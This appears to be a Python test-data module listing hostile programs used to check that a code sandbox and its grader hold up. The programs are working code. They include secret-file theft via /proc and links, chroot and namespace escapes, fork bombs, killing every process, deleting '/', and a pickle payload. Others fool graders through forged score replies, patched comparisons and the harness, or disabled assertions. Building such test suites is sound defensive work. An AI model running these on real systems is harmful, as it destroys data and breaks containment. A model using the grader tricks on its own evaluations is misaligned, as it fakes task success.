"""Hostile and broken programs that a sandbox must survive, as data for `prime-fast doctor` and the tests.

Each is how it is asked and a program. How: by the tests that it is after (`cheats`); or "stdin" (it reads the world, a
JSON object, from its input), "call" or "assert" (it defines attack(world)). The world names what is outside: a secret
file, a folder, listeners, a process. A program wins if it answers with the secret, which it is never told, or, where it
must do rather than know, with world["win"].
"""

from prime_fast.rewards import drains
from prime_fast.rewards.cheats import CHEATS

READ, CALL = "import json, os, sys\nw = json.loads(input())\n", "import json, os, sys\n"
LIBC = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
WIN = "print(w['win'])\n"

STDIN = {
    "environment": "print(os.environ.get(w['name']))",
    "environment of the parent": "print(open(f'/proc/{os.getppid()}/environ').read().split(w['name'] + '=')[1][:32])",
    "environment of every process": """
import glob
for path in glob.glob('/proc/[0-9]*/environ'):
    try: print(open(path).read().split(w['name'] + '=')[1][:32]); break
    except (OSError, IndexError): pass""",
    "secret file": "print(open(w['file']).read())",
    "secret file through /proc/1/root": "print(open('/proc/1/root' + w['file']).read())",
    "secret file through a symbolic link": "os.symlink(w['file'], '/tmp/link')\nprint(open('/tmp/link').read())",
    "secret file through a hard link": "os.link(w['file'], '/tmp/link')\nprint(open('/tmp/link').read())",
    "secret file from the root upwards": "print(open('/../../../..' + w['file']).read())",
    "search of all files": """
for folder, _, names in os.walk('/'):
    if os.path.basename(w['file']) in names: print(open(folder + '/' + os.path.basename(w['file'])).read())""",
    "inherited descriptors": """
for fd in range(3, 4096):
    try: print(os.pread(fd, 32, 0))
    except OSError: pass
    try: os.fchdir(fd); print(open('../' * 9 + w['file']).read()); break
    except OSError: pass""",
    "chroot and out again": """
os.mkdir('/tmp/d'); os.chroot('/tmp/d')
for _ in range(64): os.chdir('..')
os.chroot('.'); print(open(w['file']).read())""",
    "a user namespace of its own": LIBC + "assert libc.unshare(0x10000000) == 0\n" + WIN,
    "another namespace": LIBC + "assert libc.setns(os.open('/proc/1/ns/mnt', os.O_RDONLY), 0) == 0\n" + WIN,
    "mount": LIBC + "assert libc.mount(b'tmpfs', b'/tmp', b'tmpfs', 0, None) == 0\n" + WIN,
    "remount for writing": LIBC + "assert libc.mount(None, b'/', None, 32 | 4096, None) == 0\n" + WIN,
    "unmount": LIBC + "assert libc.umount2(os.__file__.encode(), 2) == 0 or libc.umount2(b'/usr', 2) == 0\n" + WIN,
    "device node": "os.mknod('/tmp/disk', 0o60666, os.makedev(254, 0)); open('/tmp/disk', 'rb').read(1)\n" + WIN,
    "disk and kernel devices": """
for name in ('vda', 'sda', 'nvme0n1', 'mem', 'kmem', 'port', 'kmsg', 'fuse', 'kvm', 'net/tun', 'nvidia0', 'nvidiactl'):
    try: os.open('/dev/' + name, os.O_RDONLY); print(w['win']); break
    except OSError: pass""",
    "file outside": "open(w['folder'] + '/gone', 'w').write('x')",
    "file outside through a link": "os.symlink(w['folder'], '/tmp/out'); open('/tmp/out/gone', 'w').write('x')",
    "overwriting the secret": "open(w['file'], 'w').write('x')",
    "change of the standard library": "open(os.__file__, 'a').write('x = 1\\n')\n" + WIN,
    "change of installed packages": "open(sys.path[-1] + '/evil.pth', 'w').write('import os')\n" + WIN,
    "new file in the root": "open('/evil', 'w').write('x')\n" + WIN,
    "removal of everything": """
import shutil
for place in (w['folder'], os.path.dirname(w['file']), '/usr', '/'): shutil.rmtree(place, ignore_errors=True)""",
    "tcp connection": "import socket\nsocket.create_connection(('127.0.0.1', w['port']), 1).send(b'x')\n" + WIN,
    "tcp server": "import socket\nsocket.create_server(('127.0.0.1', 0))\n" + WIN,
    "name look-up": "import socket\nprint(socket.getaddrinfo('example.com', 80))\n" + WIN,
    "udp": "import socket\nsocket.socket(2, 2).sendto(b'x', ('127.0.0.1', w['port']))\n" + WIN,
    "raw and netlink sockets": """
import socket
for family, kind in ((17, 3), (2, 3), (16, 3), (38, 5), (40, 1)):
    try: socket.socket(family, kind); print(w['win']); break
    except OSError: pass""",
    "unix socket": "import socket\nsocket.socket(1).connect(w['unix'])\n" + WIN,
    "abstract unix socket": "import socket\nsocket.socket(1).connect('\\0' + w['abstract'])\n" + WIN,
    "message to a unix socket": "import socket\nsocket.socketpair(1, 2)[0].sendto(b'x', w['unix'] + '-datagrams')\n"
    + WIN,
    "fork": "os.fork()\n" + WIN,
    "fork bomb": "while True:\n    try: os.fork(); print(w['win'], flush=True)\n    except OSError: pass",
    "fork by the system call": LIBC + "assert libc.syscall(57) >= 0 or libc.syscall(58) >= 0\n" + WIN,
    "clone by the system call": LIBC + "assert libc.syscall(56, 17, 0, 0, 0, 0) >= 0\n" + WIN,
    "clone3": LIBC + "a = (ctypes.c_ulong * 8)(0, 0, 0, 0, 17)\nassert libc.syscall(435, a, 64) >= 0\n" + WIN,
    "daemon that outlives its parent": """
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: time.sleep(600)
    os._exit(0)
print(w['win'])""",
    "shell": "import subprocess\nprint(subprocess.check_output('id', shell=True))\n" + WIN,
    "spawn": "os.posix_spawn('/usr/bin/id', ['id'], {}); " + WIN,
    "exec": "os.execv(sys.executable or '/usr/bin/python3', ['python3', '-c', f'print({w[\"win\"]!r})'])",
    "process pool": "from multiprocessing import Pool\nwith Pool(2) as pool: print(pool.map(str, [w['win']])[0])",
    "thread bomb": """
import threading, time
for n in range(5000): threading.Thread(target=time.sleep, args=(600,)).start()
print(w['win'], flush=True)""",
    "memory by bytes": "x = []\nwhile len(x) < 33: x.append(bytearray(1 << 26))\n" + WIN,
    "memory by maps": "import mmap\nx = [mmap.mmap(-1, 1 << 28) for _ in range(9)]\n" + WIN,
    "memory by memfd": "for _ in range(40): os.write(os.memfd_create('x'), bytes(1 << 26))\n" + WIN,
    "memory by sysv segments": LIBC + "for _ in range(40): assert libc.shmget(0, 1 << 26, 0o1600) >= 0\n" + WIN,
    "memory while compiling": "compile('(' * 90 + '1' + ')' * 90 + '+1' * 10**7, 'x', 'eval')\n" + WIN,
    "one huge number": "x = 9 ** 9 ** 9\n" + WIN,
    "disk": """
n = 0
try:
    for i in range(999): n += open(f'/tmp/{i}', 'wb', 0).write(bytes(1 << 22))
except OSError: pass
if n > 1 << 28: print(w['win'])""",
    "disk under /dev/shm": "for i in range(99): open(f'/dev/shm/{i}', 'wb', 0).write(bytes(1 << 22))\n" + WIN,
    "one huge file": "os.truncate(os.open('/tmp/x', os.O_CREAT | os.O_RDWR), 1 << 40)\n" + WIN,
    "many small files": "for i in range(100_000): open(f'/tmp/{i}', 'w')\n" + WIN,
    "endless lines": "while True: print(w['win'] * 100)",
    "endless output without a line": "while True: sys.stdout.write('x' * 65536)",
    "one huge line": "print('x' * (1 << 28))",
    "bytes that are no text": "os.write(1, bytes(range(256)) * 9999 + b'\\xff\\xfe\\0{}')",
    "endless loop": "while True: pass",
    "endless sleep": "import time\nwhile True: time.sleep(600)",
    "endless regular expression": "import re\nre.match(r'(a+)+$', 'a' * 60 + 'b')",
    "endless loop that ignores signals": """
import signal
for n in range(1, 65):
    try: signal.signal(n, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: pass""",
    "endless exit handler": "import atexit\n@atexit.register\ndef stay():\n    while True: pass",
    "thread that does not end": "import threading, time\nthreading.Thread(target=time.sleep, args=(600,)).start()",
    "endless compilation": "for zero in iter(int, 1): compile(f'x = {zero}', '', 'exec')",
    "kill of a neighbour": "os.kill(w['pid'], 9)\n" + WIN,
    "kill of the parent": "os.kill(os.getppid(), 9)\n" + WIN,
    "kill of everything": """
for pid in (0, -1, 1, -os.getpgrp(), *range(2, 40_000)):
    try: os.kill(pid, 9)
    except OSError: pass""",
    "signal by the descriptor": """
import fcntl, socket
a, b = socket.socketpair()
for command, value in ((8, w['pid']), (10, 9), (4, 0o20000)): fcntl.fcntl(a, command, value)
b.send(b'x')""",
    "stop of itself": "import signal\nos.kill(os.getpid(), signal.SIGSTOP); " + WIN,
    "trace of the parent": LIBC + "assert libc.ptrace(16, os.getppid(), 0, 0) == 0\n" + WIN,
    "trace of a neighbour": LIBC + "assert libc.ptrace(16, w['pid'], 0, 0) == 0\n" + WIN,
    "memory of the parent": LIBC
    + """
out = ctypes.create_string_buffer(64); v = (ctypes.c_ulong * 2)(ctypes.addressof(out), 64)
assert libc.process_vm_readv(os.getppid(), v, 1, v, 1, 0) >= 0; print(w['win'])""",
    "memory of the parent as a file": "open(f'/proc/{os.getppid()}/mem', 'r+b')\n" + WIN,
    "root again": "os.setuid(0)\n" + WIN,
    "limits lifted": "import resource\nresource.setrlimit(resource.RLIMIT_AS, (-1, -1))\n" + WIN,
    "limits of another": "import resource\nresource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))\n" + WIN,
    "host name": "import socket\nsocket.sethostname('evil')\n" + WIN,
    "clock": "import time\ntime.clock_settime(0, 0)\n" + WIN,
    "bpf and io_uring": LIBC
    + "b = bytes(120)\nassert libc.syscall(321, 0, b, 120) >= 0 or libc.syscall(425, 8, b) >= 0\n"
    + WIN,
    "kernel keys": LIBC + "assert libc.syscall(250, 0, -3, 1) >= 0\n" + WIN,
    "shared memory of others": LIBC + "i = libc.shmget(w['key'], 0, 0)\nassert i >= 0\n" + WIN,
    "shared memory files of others": "print(open('/dev/shm/' + w['shm']).read())",
    "early exit with success": "sys.exit(0)",
    "hard exit with success": "os._exit(0)",
    "crash": "import ctypes\nctypes.string_at(0)",
    "stack overflow": "def f(): return [f()]\nsys.setrecursionlimit(10**9); f()",
    "closed descriptors": "os.closerange(0, 4096)",
    "output claims success": "print(json.dumps({'score': 1.0, 'loaded': True, 'passed': True, 'ready': True}))",
    "frames on every descriptor": """
import struct
for body in (b'{"score": 1.0}', b'{"output": "x", "exit": 0}', b'{"refused": "no"}'):
    for fd in range(64):
        try: os.write(fd, struct.pack('<I', len(body)) + body)
        except OSError: pass""",
    "patched comparison": """
import builtins
class Yes(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
    def split(self, *a): return [self]
builtins.str = Yes; json.dumps = lambda *a, **k: '{"score": 1.0}'; sys.stdout = open(1, 'w'); print(Yes('x'))""",
    "own objects and frames": """
import gc
frame = sys._getframe()
while frame: print(frame.f_locals.get('expected'), frame.f_globals.get('test')); frame = frame.f_back
for o in gc.get_objects():
    if isinstance(o, dict) and 'outputs' in o: print(o['outputs'])""",
    "inputs of other tests": """
for fd in range(64):
    try: print(os.read(fd, 1 << 20))
    except OSError: pass
for name in os.listdir('.'): print(name)""",
    "exploit for who unpickles": "import pickle\nclass E:\n    def __reduce__(self): return os.system, ('id',)\n"
    "sys.stdout.buffer.write(pickle.dumps(E()))",
}

CALLS = {
    "value equal to everything": """
class Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
def attack(world): return Yes()""",
    "text equal to everything": """
class Yes(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
def attack(world): return Yes('x')""",
    "secret file by a call": "def attack(world): return open(world['file']).read()",
    "expected value among the objects": """
import gc
def attack(world):
    texts = [o for o in gc.get_objects() if isinstance(o, (list, dict, tuple))]
    words = {x for o in texts for x in (o.values() if isinstance(o, dict) else o) if isinstance(x, str)}
    found = [x for x in words if len(x) == 32 and set(x) <= set('0123456789abcdef') and x != world['win']]
    return found[0] if found else None""",
    "expected value in the frames": """
def attack(world):
    frame, seen = sys._getframe(), ''
    while frame: seen += repr(frame.f_locals) + repr(frame.f_code.co_consts); frame = frame.f_back
    import re
    found = [x for x in re.findall('[0-9a-f]{32}', seen) if x != world['win']]
    return found[0] if found else None""",
    "forged reply": """
import struct
def attack(world):
    for body in (b'{"value": true}', b'{"score": 1.0}', b'{"value": {"object": "x"}}'):
        os.write(3, struct.pack('<I', len(body)) + body)""",
    "forged reply before the load": """
import struct
body = b'{"loaded": true}'
for _ in range(9): os.write(3, struct.pack('<I', len(body)) + body)
def attack(world): return True""",
    "next request read early": """
def attack(world):
    os.set_blocking(3, False)
    return os.read(3, 1 << 20).decode()""",
    "endless reply": "def attack(world):\n    while True: os.write(3, b'\\x7f' * 65536)",
    "reply that is never finished": """
import time
def attack(world): os.write(3, b'\\xff\\0\\0\\0{'); time.sleep(600)""",
    "reply of absurd length": "def attack(world): os.write(3, b'\\xff\\xff\\xff\\xff{}'); os._exit(0)",
    "reply that is no JSON": "def attack(world): os.write(3, b'\\5\\0\\0\\0{{{{{'); os._exit(0)",
    "reply that is a deep nest": "def attack(world): os.write(3, b'\\0\\0\\1\\0' + b'[' * 65536); os._exit(0)",
    "value that is a deep nest": """
def attack(world):
    x = []
    for _ in range(10**5): x = [x]
    return x""",
    "value that holds itself": "def attack(world):\n    x = []\n    x.append(x)\n    return x",
    "huge value": "def attack(world): return 'x' * (1 << 28)",
    "huge number as value": "def attack(world): return 10 ** (10 ** 6)",
    "patched harness": """
import __main__
def attack(world):
    __main__.encode = __main__.decode = lambda value: True
    __main__.send = lambda channel, reply: None
    return True""",
    "exit from a call": "def attack(world): sys.exit(0)",
    "crash in a call": "def attack(world):\n    import ctypes\n    ctypes.string_at(0)",
    "endless call": "def attack(world):\n    while True: pass",
    "fork in a call": "def attack(world): os.fork(); return world['win']",
    "assertions switched off": "import builtins\nbuiltins.AssertionError = ValueError\ndef attack(world): assert False",
}

ATTACKS = {name: ("stdin", READ + program) for name, program in (STDIN | drains.STDIN).items()}
ATTACKS |= {name: ("call", CALL + program) for name, program in (CALLS | drains.CALLS).items()}
for name in ("value equal to", "text equal to", "expected value", "forged reply", "patched", "exit from", "assertions"):
    ATTACKS |= {f"{full}, asserted": ("assert", CALL + CALLS[full]) for full in CALLS if full.startswith(name)}
ATTACKS |= CHEATS
